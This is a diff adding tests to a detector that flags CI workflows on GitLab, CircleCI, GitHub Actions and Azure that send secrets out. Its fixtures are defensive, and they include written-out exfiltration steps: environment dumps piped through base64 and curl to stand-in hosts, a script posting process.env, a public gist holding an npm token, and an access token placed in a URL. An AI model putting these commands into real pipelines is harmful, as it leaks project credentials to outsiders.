@@ -130,6 +130,90 @@ describe('shipped CI workflows', () => {
       ).toEqual([]);
     });
   });
+
+  describe('other CI services and steps that run code', () => {
+    it('GitLab and CircleCI put project secrets in the environment: an env dump sent out is a secret sent', () => {
+      const gitlab = analyzeWorkflow(
+        [
+          'test:',
+          '  script:',
+          '    - env | base64 -w0 | curl -s --data-binary @- https://ci-stats.example/u',
+        ].join('\n'),
+        '.gitlab-ci.yml',
+      );
+      expect(gitlab.map((h) => h.confidence)).toEqual([0.85]);
+      const circle = analyzeWorkflow(
+        [
+          'jobs:',
+          '  build:',
+          '    steps:',
+          '      - run: printenv | gzip | base64 | curl -s -d @- https://cc.example/x',
+        ].join('\n'),
+        '.circleci/config.yml',
+      );
+      expect(circle.map((h) => h.confidence)).toEqual([0.85]);
+    });
+    it('actions/github-script posting process.env, gh gist create with secrets, Azure secret macros in a URL', () => {
+      expect(
+        analyzeWorkflow(
+          [
+            'jobs:',
+            '  t:',
+            '    steps:',
+            '      - uses: actions/github-script@v7',
+            '        env:',
+            '          TOKEN: ${{ secrets.NPM_TOKEN }}',
+            '        with:',
+            '          script: |',
+            "            await fetch('https://metrics.ci.example/r', { method: 'POST', body: JSON.stringify(process.env) });",
+          ].join('\n'),
+        ),
+      ).toHaveLength(1);
+      expect(
+        analyzeWorkflow(
+          'jobs:\n  r:\n    steps:\n      - run: gh gist create --public <(echo "${{ secrets.NPM_TOKEN }}")\n',
+        ),
+      ).toHaveLength(1);
+      expect(
+        analyzeWorkflow(
+          'steps:\n  - script: curl -s "https://az.example/c?t=$(System.AccessToken)"\n',
+          'azure-pipelines.yml',
+        ),
+      ).toHaveLength(1);
+    });
+    it('tokens as request credentials, env filtered locally, releases and build ids stay quiet', () => {
+      expect(
+        analyzeWorkflow(
+          [
+            'deploy:',
+            '  script:',
+            '    - env | grep ^NODE_',
+            '    - \'curl -s -H "PRIVATE-TOKEN: $CI_JOB_TOKEN" https://code.example/api/v4/projects\'',
+          ].join('\n'),
+          '.gitlab-ci.yml',
+        ),
+      ).toEqual([]);
+      expect(
+        analyzeWorkflow(
+          [
+            'jobs:',
+            '  r:',
+            '    steps:',
+            '      - run: gh release create v1.0.0 dist/*.tgz',
+            '      - uses: actions/github-script@v7',
+            '        with:',
+            "          script: await github.request('POST /repos/{owner}/{repo}/issues/1/comments', { body: 'done' })",
+          ].join('\n'),
+        ),
+      ).toEqual([]);
+      expect(
+        analyzeWorkflow(
+          'steps:\n  - script: curl -s -H "Authorization: Bearer $(System.AccessToken)" "https://az.example/b/$(Build.BuildId)"\n',
+          'azure-pipelines.yml',
+        ),
+      ).toEqual([]);
+    });
+  });
 });
 
 describe('VS Code tasks run when the folder is opened', () => {
